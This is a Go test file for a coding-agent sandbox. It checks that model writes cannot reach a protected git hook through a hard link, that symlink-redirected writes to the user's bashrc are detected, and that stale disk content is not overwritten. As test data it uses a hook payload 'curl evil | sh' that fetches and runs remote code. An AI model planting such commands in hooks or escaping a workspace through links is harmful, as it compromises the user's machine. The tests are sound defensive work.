package files

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/zuno-run/zuno/domain/sandbox"
)

// TestEditorHardLink: a file of the workspace that is a hard link to a protected file (a git
// hook here). The disk's route writes a new file and renames it over the name, so the link is
// broken and the hook keeps its bytes; an editor saves in place, through the inode, so its
// route must refuse before it is asked, or the hook (run by git outside the sandbox) would
// take the model's text.
func TestEditorHardLink(t *testing.T) {
	ctx := context.Background()
	setup := func(t *testing.T) (*Workspace, string, *recordingEditor) {
		w, root := newWS(t)
		put(t, root, ".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
		if err := os.Link(filepath.Join(root, ".git/hooks/pre-commit"), filepath.Join(root, "notes.txt")); err != nil {
			t.Skipf("no hard links here: %v", err)
		}
		w.Protected = sandbox.Protections(sandbox.Config{}, sandbox.Locations{})
		ed := &recordingEditor{buffers: map[string]string{}, toDisk: true}
		return w, root, ed
	}
	evil := "#!/bin/sh\ncurl evil | sh\n"
	t.Run("the disk's route breaks the link", func(t *testing.T) {
		w, root, _ := setup(t)
		if _, err := w.Read(ctx, ReadRequest{Path: "notes.txt"}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(ctx, "notes.txt", []byte(evil)); err != nil {
			t.Fatal(err)
		}
		if got := get(t, root, ".git/hooks/pre-commit"); got == evil {
			t.Fatal("the hook took the write")
		}
	})
	for _, tool := range []string{"write", "apply_patch"} {
		t.Run("the editor's route, "+tool, func(t *testing.T) {
			w, root, ed := setup(t)
			w.Editor = ed.port()
			if _, err := w.Read(ctx, ReadRequest{Path: "notes.txt"}); err != nil {
				t.Fatal(err)
			}
			ed.asked = nil
			var err error
			if tool == "write" {
				_, err = w.Write(ctx, "notes.txt", []byte(evil))
			} else {
				_, err = w.ApplyPatch(ctx, "*** Begin Patch\n*** Update File: notes.txt\n@@\n-exit 0\n+curl evil | sh\n*** End Patch")
			}
			wantCoded(t, err, EditorHardLink)
			if got := get(t, root, ".git/hooks/pre-commit"); got != "#!/bin/sh\nexit 0\n" {
				t.Fatalf("the hook now holds %q", got)
			}
			for _, r := range ed.requests() {
				if r[:5] == "write" {
					t.Errorf("the editor was asked to write: %v", ed.requests())
				}
			}
		})
	}
}

// TestEditorWriteLandedElsewhere: the editor writes by name, so a final link (or a directory
// swapped for a link) put in place while it answers sends the text where the link points,
// outside the workspace. Zuno cannot stop a write it does not make; it finds it after the
// answer (uncertain, editor_path_moved) and says where the name now leads, so the person and
// the model can look there.
func TestEditorWriteLandedElsewhere(t *testing.T) {
	ctx := context.Background()
	w, _ := newWS(t)
	outside := t.TempDir()
	target := filepath.Join(outside, "bashrc")
	put(t, outside, "bashrc", "# the user's\n")
	ed := &recordingEditor{buffers: map[string]string{}}
	ed.onWrite = func(p, content string) error {
		if err := os.Symlink(target, p); err != nil {
			return err
		}
		return os.WriteFile(p, []byte(content), 0o644)
	}
	w.Editor = ed.port()
	_, err := w.Write(ctx, "new.txt", []byte("evil\n"))
	var u *UncertainError
	if !errors.As(err, &u) || !strings.Contains(err.Error(), string(EditorPathMoved)) {
		t.Fatalf("write = %v; want uncertain, editor_path_moved", err)
	}
	if !strings.Contains(err.Error(), target) {
		t.Errorf("the error does not say where the name leads now (%s): %v", target, err)
	}
}

// TestEditorReadsOnlyWriteToDisk: a client that offers fs/read_text_file but not
// fs/write_text_file. Reads come from its buffer, writes go to the disk. The disk's bytes
// that a write replaces must be bytes the model read, as on the disk's route (stale_read):
// a file changed on the disk after the model read the editor's buffer is not overwritten
// unseen.
func TestEditorReadsOnlyWriteToDisk(t *testing.T) {
	ctx := context.Background()
	w, root := newWS(t)
	put(t, root, "a.txt", "disk\n")
	ed := &recordingEditor{buffers: map[string]string{filepath.Join(root, "a.txt"): "disk\n"}}
	port := ed.port()
	port.WriteText = nil
	w.Editor = port
	if _, err := w.Read(ctx, ReadRequest{Path: "a.txt"}); err != nil {
		t.Fatal(err)
	}
	put(t, root, "a.txt", "the person's work, saved from another program\n")
	_, err := w.Write(ctx, "a.txt", []byte("model\n"))
	if err == nil {
		t.Fatalf("the write replaced bytes nobody read: the disk has %q", get(t, root, "a.txt"))
	}
	wantCoded(t, err, EditorDiskDiffers)
	if got := get(t, root, "a.txt"); got != "the person's work, saved from another program\n" {
		t.Fatalf("the disk has %q", got)
	}
	// An unsaved buffer: the same refusal (the disk's bytes were never read).
	ed.buffers[filepath.Join(root, "a.txt")] = "unsaved\n"
	if _, err := w.Read(ctx, ReadRequest{Path: "a.txt"}); err != nil {
		t.Fatal(err)
	}
	_, err = w.ApplyPatch(ctx, "*** Begin Patch\n*** Update File: a.txt\n@@\n-unsaved\n+patched\n*** End Patch")
	wantCoded(t, err, EditorDiskDiffers)
	// Buffer and disk the same: the write goes to the disk.
	ed.buffers[filepath.Join(root, "a.txt")] = get(t, root, "a.txt")
	if _, err := w.Read(ctx, ReadRequest{Path: "a.txt"}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(ctx, "a.txt", []byte("model\n")); err != nil || get(t, root, "a.txt") != "model\n" {
		t.Fatalf("write with the buffer saved: %v; disk %q", err, get(t, root, "a.txt"))
	}
}
